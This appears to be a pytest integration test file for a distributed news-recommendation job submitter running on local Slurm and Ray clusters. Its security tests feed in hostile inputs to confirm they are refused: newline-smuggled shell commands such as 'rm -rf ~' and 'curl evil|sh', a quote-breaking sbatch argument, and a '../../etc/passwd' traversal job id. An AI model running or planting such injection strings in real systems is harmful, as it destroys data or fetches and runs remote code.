"""`newsrec submit` against real clusters on this machine: a single-node Slurm (slurmctld + slurmd + munged) and a
two-node Ray cluster (Jobs API), plus the local backend; bad requests fail before submission, a requeued Slurm
job resumes from its checkpoints."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from helpers import private_ray_dir, processes_mentioning, run
from local_clusters import LocalRay, LocalSlurm, local_ray_cluster, local_slurm, wait_until
from planted import LSTUR_RESUME, NODE2VEC
from planted import overrides as train_overrides

from newsrec_dist.cluster import slurm as slurm_backend
from newsrec_dist.cluster.jobs import CANCELLED, RUNNING, SUCCEEDED, JobRecord, list_records
from newsrec_dist.cluster.submit import cancel_job, job_logs, job_status, submit_stage, wait_for
from newsrec_dist.cluster.stages import launch_plan
from newsrec_dist.config import ConfigError, SlurmConfig, load_config

ROOT = Path(__file__).resolve().parents[1]
SLURM_JOB = ["cluster=slurm", "cluster.slurm.cpus_per_task=2", "cluster.slurm.mem=6G", "cluster.slurm.time=00:30:00"]


@pytest.fixture(scope="module")
def slurm(tmp_path_factory: pytest.TempPathFactory, monkeypatch_module: pytest.MonkeyPatch) -> Iterator[LocalSlurm]:
    with local_slurm(tmp_path_factory.mktemp("slurm")) as cluster:
        monkeypatch_module.setenv("SLURM_CONF", str(cluster.conf))  # sbatch/scontrol in this process find it
        yield cluster


@pytest.fixture(scope="module")
def monkeypatch_module() -> Iterator[pytest.MonkeyPatch]:
    with pytest.MonkeyPatch.context() as patch:
        yield patch


@pytest.fixture(scope="module")
def ray_cluster() -> Iterator[LocalRay]:
    with local_ray_cluster() as cluster:
        yield cluster


def _submit(stage: str, tmp_path: Path, *arguments: str):  # noqa: ANN202 - a JobRecord
    arguments = (f"cluster.jobs_dir={tmp_path / 'jobs'}", *arguments)
    cfg = load_config([a for a in arguments if "=" in a])
    return submit_stage(cfg, stage, list(arguments), workdir=ROOT)


def _queue(slurm: LocalSlurm) -> str:
    return run(["squeue", "-h"], env=slurm.env, check=True).stdout


def slurm_state(slurm: LocalSlurm, job_id: str) -> str:
    shown = run(["scontrol", "show", "job", "-o", job_id], env=slurm.env)
    return next((token.split("=", 1)[1] for token in shown.stdout.split() if token.startswith("JobState=")), "")


def test_slurm_rejects_impossible_requests_before_submission(slurm: LocalSlurm, tmp_path: Path) -> None:
    for bad, message in (("cluster.slurm.partition=gpu", r"partition 'gpu' does not exist \(partitions: debug\)"),
                         ("cluster.slurm.cpus_per_task=64", r"largest: 2 CPUs"),
                         ("cluster.slurm.mem=64G", r"64G memory"),
                         ("cluster.slurm.gpus_per_node=1", r"1 GPUs requested"),
                         ("cluster.slurm.nodes=2", r"2 node\(s\)"),
                         ("cluster.slurm.time=03:00:00", r"exceeds partition 'debug'.s MaxTime 02:00:00"),
                         ("cluster.slurm.mem=lots", r"cluster.slurm.mem")):
        with pytest.raises(ConfigError, match=message):
            _submit("synth", tmp_path, *SLURM_JOB, bad)
    with pytest.raises(ConfigError, match="cluster.slurm.account: .* single line"):  # it would start a shell line
        slurm_backend.job_shape(SlurmConfig(account="lab\nrm -rf ~"), launch_plan("train", load_config([])))
    with pytest.raises(ConfigError, match="unknown stage 'trian'"):
        _submit("trian", tmp_path, *SLURM_JOB)
    assert _queue(slurm) == "" and list_records(tmp_path / "jobs") == []


def test_slurm_job_requeued_mid_training_resumes_from_its_checkpoint(slurm: LocalSlurm, planted: Path,
                                                                      lstur_straight: Path, tmp_path: Path) -> None:
    settings = train_overrides(planted, tmp_path / "train", *LSTUR_RESUME)
    record = _submit("train", tmp_path, *SLURM_JOB, *settings)
    checkpoints = tmp_path / "train" / ".partial-lstur" / "checkpoints"
    wait_until(lambda: any("step=14" in path.name for path in checkpoints.glob("*.ckpt")), 600, "checkpoint",
               Path(record.log))
    run(["scontrol", "requeue", record.native_id], env=slurm.env, check=True)  # as preemption does
    # Slurm defers a requeued job's start (about 2 min): once it is pending again, make it eligible now
    wait_until(lambda: slurm_state(slurm, record.native_id) == "PENDING", 60, "requeued job")
    run(["scontrol", "update", f"JobId={record.native_id}", "StartTime=now"], env=slurm.env, check=True)
    assert wait_for(record, timeout=600) == SUCCEEDED, job_logs(record)[-4000:]
    log = job_logs(record)
    assert f"job {record.native_id} run 1 " in log and f"job {record.native_id} run 2 " in log, log[-4000:]
    summary = json.loads((tmp_path / "train" / "lstur" / "summary.json").read_text())
    assert len(summary["resumed_from"]) == 1 and "resuming from checkpoint" in log.split(" run 2 ")[1]
    assert int(summary["resumed_from"][0].split("step=")[1].removesuffix(".ckpt")) >= 14
    reference = json.loads((lstur_straight / "summary.json").read_text())  # the same training, uninterrupted
    assert summary["steps"] == reference["steps"] and summary["metrics"] == reference["metrics"]


def test_slurm_starts_spark_and_ray_inside_the_allocation(slurm: LocalSlurm, tiny: tuple[Path, Path],
                                                          ray_cluster: LocalRay, tmp_path: Path) -> None:
    prepared, _ = tiny
    work = tmp_path / "work"
    graphs = _submit("graphs", tmp_path, *SLURM_JOB, f"paths.work_dir={work}", f"data.prepared_dir={prepared}",
                     "graphs.windows=[2]", "graphs.spark.conf={spark.sql.shuffle.partitions:4,spark.driver.memory:1g}")
    assert "graphs.spark.master=\"$SPARK_MASTER\"" in graphs.command
    assert wait_for(graphs, timeout=600) == SUCCEEDED, job_logs(graphs)[-4000:]
    assert "Registering app newsrec-graphs" in job_logs(graphs)  # the standalone master ran the application
    assert "SecurityManager: authentication enabled" in job_logs(graphs)  # with the job's own secret
    node2vec = _submit("node2vec", tmp_path, *SLURM_JOB, f"paths.work_dir={work}", *NODE2VEC)
    assert wait_for(node2vec, timeout=600) == SUCCEEDED, job_logs(node2vec)[-4000:]
    assert "node2vec.ray.address=auto" in node2vec.command and "Ray runtime started" in job_logs(node2vec)
    assert (work / "node2vec" / "news" / "w=2").is_dir()
    # the job stopped its own Ray, and only its own: another Ray on the node (`ray_cluster`) still runs
    wait_until(lambda: not processes_mentioning(f"/tmp/ray-{node2vec.native_id}/"), 60, "the job's Ray stopped")
    assert processes_mentioning(ray_cluster.temp_dir)


def test_ray_jobs_run_a_stage_on_a_two_node_cluster_and_cancel(ray_cluster: LocalRay, tiny_graphs: Path,
                                                               tmp_path: Path) -> None:
    ray_job = ["cluster=ray", f"cluster.ray.address={ray_cluster.address}"]
    with pytest.raises(ConfigError, match="paths.work_dir=runs/"):
        _submit("node2vec", tmp_path, *ray_job)
    record = _submit("node2vec", tmp_path, *ray_job, f"paths.work_dir={tmp_path / 'work'}",
                     f"node2vec.graphs_dir={tiny_graphs}", *NODE2VEC)
    assert "node2vec.ray.address=auto" in record.command  # the job joins the cluster it runs on
    assert wait_for(record, timeout=600) == SUCCEEDED, job_logs(record)[-4000:]
    assert (tmp_path / "work" / "node2vec" / "news" / "w=2").is_dir()
    slow = _submit("synth", tmp_path, *ray_job, f"paths.work_dir={tmp_path / 'slow'}", "data.synth.scale=mind-small")
    wait_until(lambda: job_status(slow) == RUNNING, 120, "ray job")
    cancel_job(slow)
    assert wait_for(slow, timeout=120) == CANCELLED


def test_an_experiments_runs_fan_out_as_trials_over_the_ray_cluster(ray_cluster: LocalRay, tmp_path: Path) -> None:
    work = tmp_path / "work"
    # two seeds of NRMS, two trials of one CPU at once: the cluster's two one-CPU nodes each take one
    record = _submit("pipeline", tmp_path, "cluster=ray", f"cluster.ray.address={ray_cluster.address}",
                     f"paths.work_dir={work}", "data.synth.scale=micro", "stages=[synth,prepare,train]",
                     "train.models=[nrms]", "seeds=[1,2]", "train.epochs=1", "train.max_history=10",
                     "train.progress=false", "train.threads=1", "train.trials.parallel=2")
    assert "train.trials.ray.address=auto" in record.command  # the job's trials join the cluster it runs on
    assert wait_for(record, timeout=600) == SUCCEEDED, job_logs(record)[-4000:]
    assert sorted(re.findall(r"trial (nrms\.seed\d) finished", job_logs(record))) == ["nrms.seed1", "nrms.seed2"]
    assert all((work / "train" / name / "manifest.json").is_file() for name in ("nrms.seed1", "nrms.seed2"))


def test_local_backend_status_logs_and_cancel_from_the_cli(tmp_path: Path) -> None:
    cli = [sys.executable, "-m", "newsrec_dist.cli"]
    jobs = f"cluster.jobs_dir={tmp_path / 'jobs'}"
    done = run([*cli, "submit", "--wait", "--timeout", "300", "synth", jobs, "data.synth.scale=tiny",
                           f"data.raw_dir={tmp_path / 'raw'}", "+cluster.ray.env_vars.HF_TOKEN=hf_never_saved"], cwd=ROOT)
    assert done.returncode == 0, done.stdout + done.stderr
    saved = [path.read_text() for path in (tmp_path / "jobs").glob("*.json")]
    assert len(saved) == 1 and "hf_never_saved" not in saved[0] and "HF_TOKEN=***" in saved[0]
    assert (tmp_path / "raw" / "train" / "behaviors.tsv").is_file() and "SUCCEEDED" in done.stdout
    assert "data.name = synth-tiny" in done.stdout and "data.synth.scale = tiny" in done.stdout  # shown before queueing
    started = run([*cli, "submit", "synth", jobs, "data.synth.scale=mind-small",
                              f"data.raw_dir={tmp_path / 'big'}"], cwd=ROOT, check=True)
    job_id = next(line for line in started.stdout.splitlines() if line.startswith("submitted ")).split()[1]
    time.sleep(2)
    assert run([*cli, "cancel", job_id, jobs], cwd=ROOT).returncode == 0
    status = run([*cli, "status", job_id, jobs], cwd=ROOT).stdout
    assert CANCELLED in status and job_id in status
    missing = run([*cli, "logs", "synth-19990101-000000-beef", jobs])
    assert missing.returncode == 2 and "no job 'synth-19990101-000000-beef'" in missing.stdout
    outside = run([*cli, "logs", "../../etc/passwd", jobs])  # a job id is a name in jobs_dir, never a path
    assert outside.returncode == 2 and "is not a job id" in outside.stdout


@pytest.mark.parametrize(("setting", "value"), [("log", "/tmp/jobs\nrm -rf ~/x.log"), ("workdir", "/srv/a\rtouch /tmp/p"),
                                                ("log", '/tmp/a" --wrap="id'), ("setup", "source env\ncurl evil|sh"),
                                                ("env", "value\nid"), ("command", "newsrec train\nid")])
def test_slurm_script_refuses_values_that_would_start_a_shell_line(setting: str, value: str, tmp_path: Path) -> None:
    cfg = load_config([])
    record = JobRecord(id="train-20260101-000000-abcd", cluster="slurm", stage="train", arguments=[],
                       command=value if setting == "command" else "python -m newsrec_dist.cli train",
                       log=value if setting == "log" else str(tmp_path / "train.log"))
    slurm_config = SlurmConfig(setup=[value] if setting == "setup" else ["source .venv/bin/activate"])
    plan = launch_plan("train", cfg)
    arguments = (record, slurm_config, plan, slurm_backend.job_shape(SlurmConfig(), plan),
                 Path(value if setting == "workdir" else tmp_path), {"NEWSREC_X": value if setting == "env" else "1"})
    with pytest.raises(ConfigError, match="single line|double quote"):
        slurm_backend.render(*arguments)


def test_slurm_script_quotes_paths_with_blanks(tmp_path: Path) -> None:
    cfg = load_config([])
    plan = launch_plan("train", cfg)
    record = JobRecord(id="train-20260101-000000-abcd", cluster="slurm", stage="train", arguments=[],
                       command="python -m newsrec_dist.cli train", log="/tmp/my jobs/train.log")
    script = slurm_backend.render(record, SlurmConfig(), plan, slurm_backend.job_shape(SlurmConfig(), plan),
                                  Path("/srv/my work"), {"NEWSREC_X": "a b"})
    assert '#SBATCH --output="/tmp/my jobs/train.log"' in script and '#SBATCH --chdir="/srv/my work"' in script
    assert "export NEWSREC_X='a b'" in script


_LOCAL_RAY = """
import os, sys
from newsrec_dist.cluster.ray_session import ray_session  # before Ray: it sets Ray's auth mode
from newsrec_dist.config import RayConfig
import ray
with ray_session(RayConfig(address="local", num_cpus=1, temp_dir=sys.argv[1])):
    print(ray.get_runtime_context().gcs_address, os.environ["RAY_AUTH_TOKEN"], flush=True)
    sys.stdin.read()
"""
_JOIN = "import ray, sys; ray.init(address=sys.argv[1]); print('joined')"


def test_local_ray_refuses_a_client_without_its_token() -> None:
    # Ray binds its servers to every interface even when asked for loopback: the run's own token keeps others out
    plain = {name: value for name, value in os.environ.items() if not name.startswith("RAY_AUTH")}
    with private_ray_dir() as temp_dir:
        server = subprocess.Popen([sys.executable, "-c", _LOCAL_RAY, temp_dir], stdin=subprocess.PIPE,
                                  stdout=subprocess.PIPE, text=True, env=plain)
        try:
            address, token = server.stdout.readline().split()
            clients = {name: {**plain, **auth} for name, auth in (
                ("no token", {}), ("wrong token", {"RAY_AUTH_MODE": "token", "RAY_AUTH_TOKEN": "0" * 64}),
                ("the run's token", {"RAY_AUTH_MODE": "token", "RAY_AUTH_TOKEN": token}))}
            with ThreadPoolExecutor(len(clients)) as pool:  # at once: each client pays Ray's import and connect
                done = dict(zip(clients, pool.map(
                    lambda env: run([sys.executable, "-c", _JOIN, address], env=env, timeout=120), clients.values())))
            assert [name for name, client in done.items() if "joined" in client.stdout] == ["the run's token"], \
                {name: client.stderr[-1000:] for name, client in done.items()}
        finally:
            server.communicate("", timeout=120)
